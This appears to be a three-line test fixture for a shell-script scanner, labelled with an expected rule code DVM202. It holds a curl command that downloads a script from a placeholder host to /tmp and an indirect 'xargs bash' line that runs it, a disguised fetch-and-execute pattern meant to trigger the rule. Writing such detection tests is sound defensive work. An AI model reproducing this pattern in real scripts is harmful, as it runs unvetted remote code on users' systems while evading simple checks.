# expect: DVM202
curl -fsSLo /tmp/i.sh https://example.org/i.sh
echo /tmp/i.sh | xargs bash
